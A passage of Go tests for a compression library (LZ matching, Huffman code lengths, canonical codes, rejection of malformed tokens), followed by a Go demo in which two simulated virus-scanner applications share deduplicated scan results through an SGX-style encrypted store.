		t.Errorf("Ratio(redundant) = %v, want > 5", r)
	}
}

func TestCompressLevels(t *testing.T) {
	src := bytes.Repeat([]byte("the quick brown fox jumps over the lazy dog. "), 3000)
	prev := -1
	sizes := map[int]int{}
	for _, level := range []int{1, 3, 5, 7, 9} {
		comp := CompressLevel(src, level)
		got, err := Decompress(comp)
		if err != nil || !bytes.Equal(got, src) {
			t.Fatalf("level %d: round trip failed: %v", level, err)
		}
		sizes[level] = len(comp)
		_ = prev
	}
	// Higher effort must not produce a meaningfully worse ratio than
	// the fastest level (allow 1% slack for heuristic noise).
	if sizes[9] > sizes[1]+sizes[1]/100 {
		t.Errorf("level 9 output (%d) larger than level 1 (%d)", sizes[9], sizes[1])
	}
	// Levels must all round-trip random data too.
	rng := rand.New(rand.NewSource(9))
	blob := make([]byte, 50_000)
	rng.Read(blob)
	for _, level := range []int{1, 9} {
		got, err := Decompress(CompressLevel(blob, level))
		if err != nil || !bytes.Equal(got, blob) {
			t.Fatalf("level %d: random round trip failed: %v", level, err)
		}
	}
}

func TestQuickRoundTrip(t *testing.T) {
	prop := func(src []byte) bool {
		got, err := Decompress(Compress(src))
		return err == nil && bytes.Equal(got, src)
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

// Structured pseudo-text exercises the lazy-matching path more than
// uniform random bytes.
func TestQuickRoundTripStructured(t *testing.T) {
	words := []string{"alpha", "beta", "gamma", "delta", "epsilon", "zeta"}
	prop := func(seed int64, n uint16) bool {
		rng := rand.New(rand.NewSource(seed))
		var b bytes.Buffer
		for b.Len() < int(n) {
			b.WriteString(words[rng.Intn(len(words))])
			b.WriteByte(' ')
		}
		src := b.Bytes()
		got, err := Decompress(Compress(src))
		return err == nil && bytes.Equal(got, src)
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 100}); err != nil {
		t.Error(err)
	}
}

func TestHuffmanCodeLengthsKraft(t *testing.T) {
	// For arbitrary frequency profiles the produced lengths must
	// satisfy the Kraft inequality and stay within maxCodeLen.
	prop := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		var freq [256]int64
		n := 1 + rng.Intn(256)
		for i := 0; i < n; i++ {
			freq[rng.Intn(256)] = int64(1 + rng.Intn(1_000_000))
		}
		lengths := buildCodeLengths(freq)
		var kraft float64
		nonzero := 0
		for s, l := range lengths {
			if freq[s] > 0 && l == 0 {
				return false // symbol with frequency lacks a code
			}
			if l > maxCodeLen {
				return false
			}
			if l > 0 {
				nonzero++
				kraft += 1 / float64(uint64(1)<<l)
			}
		}
		return nonzero == 0 || kraft <= 1.0000001
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

func TestHuffmanSkewedFrequenciesLimited(t *testing.T) {
	// Fibonacci-like frequencies force deep trees; lengths must still
	// be limited.
	var freq [256]int64
	a, b := int64(1), int64(1)
	for i := 0; i < 40; i++ {
		freq[i] = a
		a, b = b, a+b
	}
	lengths := buildCodeLengths(freq)
	for s := 0; s < 40; s++ {
		if lengths[s] == 0 || lengths[s] > maxCodeLen {
			t.Fatalf("symbol %d length %d out of range", s, lengths[s])
		}
	}
	// And such a code must still decode what it encodes.
	codes := canonicalCodes(lengths)
	var bw bitWriter
	data := []byte{0, 1, 2, 3, 39, 39, 0}
	for _, s := range data {
		bw.writeBits(codes[s], lengths[s])
	}
	dec := newHuffDecoder(lengths)
	br := &bitReader{buf: bw.flush()}
	for i, want := range data {
		got, err := dec.decode(br)
		if err != nil || got != want {
			t.Fatalf("symbol %d: decode = (%d, %v), want %d", i, got, err, want)
		}
	}
}

func TestCanonicalCodesPrefixFree(t *testing.T) {
	var freq [256]int64
	for i := 0; i < 20; i++ {
		freq[i] = int64(i*i + 1)
	}
	lengths := buildCodeLengths(freq)
	codes := canonicalCodes(lengths)
	for a := 0; a < 20; a++ {
		for b := 0; b < 20; b++ {
			if a == b {
				continue
			}
			la, lb := lengths[a], lengths[b]
			if la == 0 || lb == 0 || la > lb {
				continue
			}
			// code[a] must not be a prefix of code[b].
			if codes[a] == codes[b]>>(lb-la) {
				t.Fatalf("code of %d is a prefix of code of %d", a, b)
			}
		}
	}
}

func TestLZTokensRoundTripDirect(t *testing.T) {
	src := []byte("abcabcabcabcabc--abcabcabcabcabc")
	tokens := lzCompress(src)
	got, err := lzDecompress(tokens, len(src))
	if err != nil {
		t.Fatalf("lzDecompress: %v", err)
	}
	if !bytes.Equal(got, src) {
		t.Errorf("lz round trip = %q, want %q", got, src)
	}
	if len(tokens) >= len(src) {
		t.Errorf("lz did not shrink repetitive input: %d -> %d", len(src), len(tokens))
	}
}

func TestLZDecompressRejectsBadDistance(t *testing.T) {
	// A match referring before the start of output must be rejected.
	tokens := []byte{0x01, 0x00, 0x10, 0x00} // flag: match; len=4, dist=17
	if _, err := lzDecompress(tokens, 4); err == nil {
		t.Error("lzDecompress accepted out-of-range distance")
	}
}

func TestLZDecompressRejectsTruncatedMatch(t *testing.T) {
	tokens := []byte{0x01, 0x00} // match flag but only 1 byte of payload
	if _, err := lzDecompress(tokens, 4); err == nil {
		t.Error("lzDecompress accepted truncated match")
	}
}
