// Command speeddemo runs an end-to-end demonstration of SPEED: two
// SGX-enabled applications on one simulated platform deduplicate a
// pattern-matching workload against a shared encrypted ResultStore,
// printing per-call outcomes and the final statistics.
package main

import (
	"fmt"
	"os"
	"time"

	"speed"
	"speed/internal/pattern"
	"speed/internal/workload"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "speeddemo:", err)
		os.Exit(1)
	}
}

func run() error {
	sys, err := speed.NewSystem()
	if err != nil {
		return err
	}
	defer sys.Close()

	// Rule set shared by both scanner applications.
	src := workload.New(2026)
	rules := src.SnortRules(1200)
	rs, err := pattern.CompileRules(rules)
	if err != nil {
		return err
	}
	ruleCode := []byte("scanner rule engine v1") // trusted library identity

	mkScanner := func(name string) (*speed.App, *speed.Deduplicable[[]byte, []byte], error) {
		app, err := sys.NewApp(name, []byte(name+" code"))
		if err != nil {
			return nil, nil, err
		}
		app.RegisterLibrary("scanlib", "1.0", ruleCode)
		scan, err := speed.NewDeduplicable(app,
			speed.FuncDesc{Library: "scanlib", Version: "1.0", Signature: "scan(payload)"},
			func(payload []byte) ([]byte, error) {
				return pattern.EncodeScanResult(rs.Scan(payload)), nil
			},
			speed.WithInputCodec[[]byte, []byte](speed.BytesCodec{}),
			speed.WithOutputCodec[[]byte, []byte](speed.BytesCodec{}),
		)
		return app, scan, err
	}

	appA, scanA, err := mkScanner("virus-scanner-A")
	if err != nil {
		return err
	}
	defer appA.Close()
	appB, scanB, err := mkScanner("virus-scanner-B")
	if err != nil {
		return err
	}
	defer appB.Close()

	// A duplicated packet stream: 40 scans over 8 distinct payloads.
	payloads := workload.DupStream(src, 40, 8, func(i int) []byte {
		return src.Packet(64<<10, rules, 0.3)
	})

	fmt.Println("scanning 40 payloads (8 distinct) across two applications")
	var totalTime time.Duration
	for i, p := range payloads {
		scan := scanA
		who := "A"
		if i%2 == 1 {
			scan = scanB
			who = "B"
		}
		start := time.Now()
		res, outcome, err := scan.CallOutcome(p)
		if err != nil {
			return err
		}
		elapsed := time.Since(start)
		totalTime += elapsed
		ids, err := pattern.DecodeScanResult(res)
		if err != nil {
			return err
		}
		fmt.Printf("  scan %2d app=%s outcome=%-10v rules-hit=%-3d time=%8v\n",
			i, who, outcome, len(ids), elapsed.Round(10*time.Microsecond))
	}

	fmt.Printf("\ntotal scan time: %v\n", totalTime.Round(time.Millisecond))
	fmt.Printf("app A stats: %+v\n", appA.Stats())
	fmt.Printf("app B stats: %+v\n", appB.Stats())
	fmt.Printf("store stats: %+v\n", sys.StoreStats())
	return nil
}
